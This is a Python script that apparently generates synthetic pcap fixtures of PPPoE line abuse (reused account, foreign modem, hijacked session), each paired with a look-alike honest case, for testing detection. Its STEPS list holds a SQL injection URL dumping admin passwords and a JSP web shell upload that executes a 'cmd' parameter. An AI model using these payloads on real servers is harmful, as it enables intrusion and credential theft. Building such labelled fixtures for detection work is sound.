#!/usr/bin/env python3
"""Writes line-abuse/: access lines that are abused, and beside each the honest counterpart that looks much alike.

    make-line-abuse.py [FOLDER]      # default: line-abuse beside this script

In each capture somebody attacks a server over a PPPoE line, so that there is an incident for the abuse to be seen in.
`site.yaml` names the lines. Only the standard library is used, and the bytes are the same each time.
"""

import pathlib
import struct

from arguments import folder
from packets import SECOND, Capture, Link, Talk, at, hardware, packed

BEGIN = at("2026-11-20T02:00:00Z")
SERVER, GATEWAY = "10.31.4.20", "10.40.0.1"
ACCOUNT, CIRCUIT, FIRST, SECOND_ADDRESS = b"gz-301", b"olt-3 1/1/7", "10.40.7.20", "10.40.9.9"
STEPS = [
    ("GET", "/list.php?id=1%27%20union%20select%20user,password,3%20from%20admin--%20", b"", b"hello"),
    ("PUT", "/upload/help.jsp", b"<% Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>", b"created"),
    ("GET", "/upload/help.jsp?cmd=id", b"", b"uid=998(tomcat) gid=998(tomcat)\n"),
]


class Session:
    """A session of PPPoE: who dials in where, and what is sent in it."""

    def __init__(self, capture, modem, number):
        self.capture, self.number = capture, number
        self.link = Link(capture, "bras", ("10.40.7.", "10.40.9."), pppoe=number)
        self.client, self.server = hardware(modem), self.link.router
        self.link.mac = lambda address: self.client if str(address).startswith(self.link.local) else self.server

    def frame(self, time, ethertype, code, session, body, from_client):
        ends = self.server + self.client if from_client else self.client + self.server
        head = struct.pack(">HBBHH", ethertype, 0x11, code, session, len(body))
        self.capture.add(time, (ends + head + body).ljust(60, b"\0"))

    def ppp(self, time, protocol, code, data, from_client):
        body = struct.pack(">HBBH", protocol, code, 1, len(data) + 4) + data
        self.frame(time, 0x8864, 0, self.number, body, from_client)

    def begin(self, time, account, circuit, address):
        """Discovery with the circuit that the access node adds (TR-101), CHAP, and the address."""
        vendor = struct.pack(">I", 3561) + bytes([1, len(circuit)]) + circuit
        tags = b"\x01\x01\0\0\x01\x05" + struct.pack(">H", len(vendor)) + vendor
        self.frame(time, 0x8863, 0x19, 0, tags, True)
        self.frame(time + 1_000, 0x8863, 0x65, self.number, b"\x01\x01\0\0", False)
        self.ppp(time + 2_000, 0xC223, 1, b"\x10" + bytes(range(16)) + b"bras", False)
        self.ppp(time + 3_000, 0xC223, 2, b"\x10" + bytes(16) + account, True)
        self.ppp(time + 4_000, 0x8021, 2, b"\x03\x06" + packed(GATEWAY), True)
        self.ppp(time + 5_000, 0x8021, 2, b"\x03\x06" + packed(address), False)
        return self

    def end(self, time):
        self.frame(time, 0x8863, 0xA7, self.number, b"", True)

    def ask(self, time, address, port, what):
        method, path, sent, body = what
        head = f"{method} {path} HTTP/1.1\r\nHost: oa.city.example\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n"
        head += f"Content-Length: {len(sent)}\r\n" if sent else ""
        answer = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body
        talk = Talk(self.link, time, address, port, SERVER, 80).open()
        talk.ask((head + "\r\n").encode() + sent).answer(answer).close()

    def browse(self, time, address, port):
        self.ask(time, address, port, ("GET", "/index.php", b"", b"hello"))

    def attack(self, time, address, port):
        for number, step in enumerate(STEPS):
            self.ask(time + number * 30 * SECOND, address, port + number, step)


def minute(number):
    return BEGIN + number * 60 * SECOND


def account(capture, is_moved):
    """The account logs in at another line; honest: after it has left the first."""
    own = Session(capture, "modem-x", 100).begin(minute(0), ACCOUNT, CIRCUIT, FIRST)
    own.browse(minute(1), FIRST, 40_000)
    if is_moved:
        own.end(minute(2))
    other = Session(capture, "modem-y", 101).begin(minute(3), ACCOUNT, b"olt-9 2/4/1", SECOND_ADDRESS)
    other.attack(minute(4), SECOND_ADDRESS, 41_000)
    if not is_moved:
        own.browse(minute(7), FIRST, 40_001)


def modem(capture, is_own):
    """Somebody dials in at the line with a modem of his own; honest: the line's modem dials in again."""
    own = Session(capture, "modem-x", 100).begin(minute(0), ACCOUNT, CIRCUIT, FIRST)
    own.browse(minute(1), FIRST, 40_000)
    own.end(minute(2))
    other = Session(capture, "modem-x" if is_own else "modem-z", 101)
    other.begin(minute(3), ACCOUNT, CIRCUIT, SECOND_ADDRESS).attack(minute(4), SECOND_ADDRESS, 41_000)


def hijack(capture, is_own):
    """Another's session sends with the line's address; honest: the line dials in anew and is given the same one."""
    own = Session(capture, "modem-x", 100).begin(minute(0), ACCOUNT, CIRCUIT, FIRST)
    own.browse(minute(1), FIRST, 40_000)
    if is_own:
        other = Session(capture, "modem-x", 101).begin(minute(3), ACCOUNT, CIRCUIT, FIRST)
    else:
        other = Session(capture, "modem-y", 101).begin(minute(3), b"gz-302", b"olt-3 1/1/8", SECOND_ADDRESS)
    other.attack(minute(4), FIRST, 41_000)


def main():
    target = folder(__doc__, pathlib.Path(__file__).resolve().parent / "line-abuse")
    target.mkdir(exist_ok=True)
    scenes = {"account-twice": (account, False), "account-moved": (account, True), "modem-foreign": (modem, False),
              "modem-own": (modem, True), "session-hijacked": (hijack, False), "session-renewed": (hijack, True)}
    for name, (scene, is_honest) in scenes.items():
        capture = Capture()
        scene(capture, is_honest)
        capture.write(target / f"{name}.pcap")
    (target / "site.yaml").write_text(
        "districts: [{id: GZ, name: 桂洲镇}]\nunits: [{id: U-1, name: 服务站, district: GZ}]\naccess_points:\n"
        "  - {id: A-X, name: line x, unit: U-1, type: pppoe, accounts: [gz-301], circuits: [olt-3 1/1/7]}\n"
        "  - {id: A-Y, name: line y, unit: U-1, type: pppoe, accounts: [gz-302], circuits: [olt-3 1/1/8]}\n"
        "  - {id: A-D, name: dial-in, unit: U-1, type: pppoe, ranges: [10.40.0.0/16]}\n"
        "  - {id: A-S, name: centre, unit: U-1, type: leased, ranges: [10.31.4.0/24]}\n"
        f"assets: [{{id: S-1, name: oa, address: {SERVER}, role: web, importance: 5}}]\n"
    )


main()
